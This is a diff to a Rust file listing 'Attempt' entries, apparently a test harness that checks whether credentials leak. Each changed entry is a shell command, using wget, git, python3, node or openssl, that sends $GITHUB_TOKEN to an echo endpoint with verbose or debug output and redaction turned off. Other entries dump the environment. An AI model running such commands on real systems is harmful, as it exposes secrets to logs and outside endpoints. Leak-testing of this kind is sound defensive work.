@@ -44,7 +44,7 @@ pub(super) const ATTEMPTS: &[Attempt] = &[
         21,
         Leaks,
         &["wget"],
-        "wget -T 10 -t 1 -d -S -O - --ca-certificate=\"$SSL_CERT_FILE\" \"$BASE/echo\" --header \"Authorization: Bearer $GITHUB_TOKEN\" --header \"$NAMED\"",
+        "wget -T 10 -t 1 -d -S -O - --ca-certificate=\"$SSL_CERT_FILE\" \"$BASE/echo\" --header \"Authorization: Bearer $GITHUB_TOKEN\" --header \"$NAMED\"; says $? 0",
     ),
     web(
         "git with GIT_CURL_VERBOSE and GIT_TRACE",
@@ -52,7 +52,8 @@ pub(super) const ATTEMPTS: &[Attempt] = &[
         21,
         Leaks,
         &["git"],
-        "GIT_CURL_VERBOSE=1 GIT_TRACE=1 GIT_TRACE_PACKET=1 GIT_TRACE_REDACT=0 git -c http.extraHeader=\"Authorization: Bearer $GITHUB_TOKEN\" -c http.extraHeader=\"$NAMED\" ls-remote \"$BASE/echo\"",
+        // What it says of the whole of a reply that is no repository.
+        "LC_ALL=C GIT_CURL_VERBOSE=1 GIT_TRACE=1 GIT_TRACE_PACKET=1 GIT_TRACE_REDACT=0 git -c http.extraHeader=\"Authorization: Bearer $GITHUB_TOKEN\" -c http.extraHeader=\"$NAMED\" ls-remote \"$BASE/echo\" >~/git.$$ 2>&1; cat ~/git.$$; grep -q 'not valid: is this a git repository' ~/git.$$; says $? 0; rm -f ~/git.$$",
     ),
     shell(
         "git credential fill",
@@ -109,7 +110,7 @@ pub(super) const ATTEMPTS: &[Attempt] = &[
         21,
         Leaks,
         &["python3"],
-        "python3 -c 'import os, http.client as h, urllib.request as u; h.HTTPConnection.debuglevel=1; h.HTTPSConnection.debuglevel=1; c=__import__(\"ssl\").create_default_context(cafile=os.environ.get(\"SSL_CERT_FILE\")); o=u.build_opener(u.HTTPSHandler(debuglevel=1, context=c)); print(o.open(u.Request(os.environ[\"BASE\"]+\"/echo\", headers={\"Authorization\": \"Bearer \"+os.environ[\"GITHUB_TOKEN\"]}), timeout=10).read())'",
+        "python3 -c 'import os, http.client as h, urllib.request as u; h.HTTPConnection.debuglevel=1; h.HTTPSConnection.debuglevel=1; c=__import__(\"ssl\").create_default_context(cafile=os.environ.get(\"SSL_CERT_FILE\")); o=u.build_opener(u.HTTPSHandler(debuglevel=1, context=c)); print(o.open(u.Request(os.environ[\"BASE\"]+\"/echo\", headers={\"Authorization\": \"Bearer \"+os.environ[\"GITHUB_TOKEN\"]}), timeout=10).read())'; says $? 0",
     ),
     shell(
         "python dumps its environment",
@@ -133,7 +134,7 @@ pub(super) const ATTEMPTS: &[Attempt] = &[
         21,
         Leaks,
         &["node"],
-        "NODE_DEBUG=http,https,net,tls node -e 'require(\"https\").get(process.env.BASE+\"/echo\", {headers: {authorization: \"Bearer \"+process.env.GITHUB_TOKEN}}, (r) => { console.log(\"HTTP/\" + r.httpVersion, r.statusCode); r.pipe(process.stdout) }).on(\"error\", (e) => console.log(e))'",
+        "NODE_DEBUG=http,https,net,tls node -e 'process.exitCode = 1; require(\"https\").get(process.env.BASE+\"/echo\", {headers: {authorization: \"Bearer \"+process.env.GITHUB_TOKEN}}, (r) => { console.log(\"HTTP/\" + r.httpVersion, r.statusCode); r.on(\"end\", () => { process.exitCode = r.complete ? 0 : 1 }); r.pipe(process.stdout) }).on(\"error\", (e) => console.log(e))'; says $? 0",
     ),
     shell(
         "perl dumps its environment",
@@ -151,7 +152,7 @@ pub(super) const ATTEMPTS: &[Attempt] = &[
         21,
         Leaks,
         &["openssl"],
-        "h=${BASE#https://}; case $h in *:*) ;; *) h=$h:443;; esac; (printf 'GET /echo HTTP/1.1\\r\\nHost: %s\\r\\nAuthorization: Bearer %s\\r\\nConnection: close\\r\\n\\r\\n' \"$BOUND\" \"$GITHUB_TOKEN\"; sleep 1) | timeout 10 openssl s_client -ign_eof -connect $h -servername \"$BOUND\" -msg -debug -showcerts",
+        "h=${BASE#https://}; case $h in *:*) ;; *) h=$h:443;; esac; (printf 'GET /echo HTTP/1.1\\r\\nHost: %s\\r\\nAuthorization: Bearer %s\\r\\nConnection: close\\r\\n\\r\\n' \"$BOUND\" \"$GITHUB_TOKEN\"; sleep 1) | timeout 10 openssl s_client -ign_eof -connect $h -servername \"$BOUND\" -msg -debug -showcerts; says $? 0",
     ),
     web(
         "the keys of TLS, for whoever listens",
